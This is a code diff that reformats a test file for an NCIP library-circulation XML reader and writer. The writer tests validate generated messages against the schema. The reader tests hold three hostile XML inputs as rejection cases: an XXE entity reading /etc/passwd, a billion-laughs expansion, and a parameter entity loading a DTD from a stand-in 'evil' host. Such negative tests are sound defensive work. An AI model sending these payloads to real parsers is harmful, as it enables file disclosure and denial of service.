@@ -50,9 +50,21 @@ describe('NCIP reader', () => {
   });
 
   it.each([
-    ['XXE', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><NCIPMessage>&x;</NCIPMessage>', 'doctype_subset'],
-    ['billion laughs', '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><NCIPMessage>&b;</NCIPMessage>', 'doctype_subset'],
-    ['parameter entity', '<!DOCTYPE l [ <!ENTITY % p SYSTEM "http://evil/x.dtd"> %p; ]><NCIPMessage/>', 'doctype_subset'],
+    [
+      'XXE',
+      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><NCIPMessage>&x;</NCIPMessage>',
+      'doctype_subset',
+    ],
+    [
+      'billion laughs',
+      '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><NCIPMessage>&b;</NCIPMessage>',
+      'doctype_subset',
+    ],
+    [
+      'parameter entity',
+      '<!DOCTYPE l [ <!ENTITY % p SYSTEM "http://evil/x.dtd"> %p; ]><NCIPMessage/>',
+      'doctype_subset',
+    ],
     ['not well-formed', '<NCIPMessage><LookupUser></NCIPMessage>', 'not_well_formed'],
     ['not XML', '{"json": true}', 'not_well_formed'],
     ['empty', ' \uFEFF ', 'empty'],
@@ -82,15 +94,38 @@ describe('NCIP writer output validates against the XSD', () => {
       userIdEl({ agency: 'CN-320583-1-KSL', type: 'Barcode', value: 'P0000001' }),
       el('UserOptionalFields', [
         el('NameInformation', [el('PersonalNameInformation', [el('UnstructuredPersonalUserName', '张三 & <co>')])]),
-        el('UserPrivilege', [el('AgencyId', 'CN-320583-1-KSL'), el('AgencyUserPrivilegeType', 'adult'), el('ValidToDate', '2028-12-31T15:59:59Z'), el('UserPrivilegeStatus', [el('UserPrivilegeStatusType', 'Active')])]),
+        el('UserPrivilege', [
+          el('AgencyId', 'CN-320583-1-KSL'),
+          el('AgencyUserPrivilegeType', 'adult'),
+          el('ValidToDate', '2028-12-31T15:59:59Z'),
+          el('UserPrivilegeStatus', [el('UserPrivilegeStatusType', 'Active')]),
+        ]),
         el('BlockOrTrap', [el('AgencyId', 'CN-320583-1-KSL'), el('BlockOrTrapType', 'card_lost')]),
       ]),
     ],
-    LookupItem: [itemIdEl({ agency: 'CN-320583-1-KSL', type: 'Barcode', value: 'B1' }), el('ItemOptionalFields', [el('BibliographicDescription', [el('Author', 'a'), el('Title', 't')]), el('CirculationStatus', 'On Loan'), el('DateDue', '2026-12-25T15:59:59.000Z')])],
+    LookupItem: [
+      itemIdEl({ agency: 'CN-320583-1-KSL', type: 'Barcode', value: 'B1' }),
+      el('ItemOptionalFields', [
+        el('BibliographicDescription', [el('Author', 'a'), el('Title', 't')]),
+        el('CirculationStatus', 'On Loan'),
+        el('DateDue', '2026-12-25T15:59:59.000Z'),
+      ]),
+    ],
     CheckOutItem: [itemIdEl({ value: 'B1' }), userIdEl({ value: 'P1' }), el('DateDue', '2026-12-25T15:59:59.000Z')],
     CheckInItem: [itemIdEl({ value: 'B1' }), userIdEl({ value: 'P1' })],
-    RenewItem: [itemIdEl({ value: 'B1' }), userIdEl({ value: 'P1' }), el('DateDue', '2026-12-25T15:59:59.000Z'), el('RenewalCount', '1')],
-    RequestItem: [requestIdEl({ agency: 'X', value: 'r1' }), itemIdEl({ value: 'B1' }), userIdEl({ value: 'P1' }), el('RequestType', 'Loan'), el('RequestScopeType', 'Item')],
+    RenewItem: [
+      itemIdEl({ value: 'B1' }),
+      userIdEl({ value: 'P1' }),
+      el('DateDue', '2026-12-25T15:59:59.000Z'),
+      el('RenewalCount', '1'),
+    ],
+    RequestItem: [
+      requestIdEl({ agency: 'X', value: 'r1' }),
+      itemIdEl({ value: 'B1' }),
+      userIdEl({ value: 'P1' }),
+      el('RequestType', 'Loan'),
+      el('RequestScopeType', 'Item'),
+    ],
     CancelRequestItem: [requestIdEl({ value: 'r1' }), userIdEl({ value: 'P1' })],
     AcceptItem: [requestIdEl({ value: 'r1' }), itemIdEl({ agency: 'CN-320585-1-TCL', value: 'T1' })],
     RecallItem: [itemIdEl({ value: 'B1' }), el('DateDue', '2026-12-25T15:59:59.000Z')],
@@ -104,22 +139,47 @@ describe('NCIP writer output validates against the XSD', () => {
   });
 
   it.each(Object.keys(bodies))('%sResponse with a Problem', async (service) => {
-    const xml = buildXml(responseMessage(service, header, [problemEl({ type: 'Unknown Item', scheme: ProblemSchemes.general, detail: 'd', element: 'ItemId', value: 'B<1>' })]));
+    const xml = buildXml(
+      responseMessage(service, header, [
+        problemEl({
+          type: 'Unknown Item',
+          scheme: ProblemSchemes.general,
+          detail: 'd',
+          element: 'ItemId',
+          value: 'B<1>',
+        }),
+      ]),
+    );
     expect(await ncipSchemaErrors(xml)).toEqual([]);
   });
 
   it('a top-level Problem and the LookupVersionResponse', async () => {
-    expect(await ncipSchemaErrors(buildXml(topLevelProblem([{ type: 'Agency Authentication Failed', element: 'InitiationHeader/FromAgencyId/AgencyId', value: 'X' }])))).toEqual([]);
+    expect(
+      await ncipSchemaErrors(
+        buildXml(
+          topLevelProblem([
+            { type: 'Agency Authentication Failed', element: 'InitiationHeader/FromAgencyId/AgencyId', value: 'X' },
+          ]),
+        ),
+      ),
+    ).toEqual([]);
     expect(await ncipSchemaErrors(buildXml(lookupVersionResponse(header, SUPPORTED_SERVICES), 'none'))).toEqual([]);
   });
 
   it('requests we send validate too', async () => {
-    const xml = buildXml(requestMessage('CheckOutItem', header, [userIdEl({ agency: 'CN-320585-1-TCL', value: 'TCL0001' }), itemIdEl({ agency: 'CN-320583-1-KSL', value: 'B1' })]));
+    const xml = buildXml(
+      requestMessage('CheckOutItem', header, [
+        userIdEl({ agency: 'CN-320585-1-TCL', value: 'TCL0001' }),
+        itemIdEl({ agency: 'CN-320583-1-KSL', value: 'B1' }),
+      ]),
+    );
     expect(await ncipSchemaErrors(xml)).toEqual([]);
   });
 
   it('the validator does reject a wrong document (the check can fail)', async () => {
-    const wrong = buildXml(responseMessage('CheckOutItem', header, [userIdEl({ value: 'P1' }), itemIdEl({ value: 'B1' })]));
+    const wrong = buildXml(
+      responseMessage('CheckOutItem', header, [userIdEl({ value: 'P1' }), itemIdEl({ value: 'B1' })]),
+    );
     expect((await ncipSchemaErrors(wrong)).length).toBeGreaterThan(0);
   });
 });
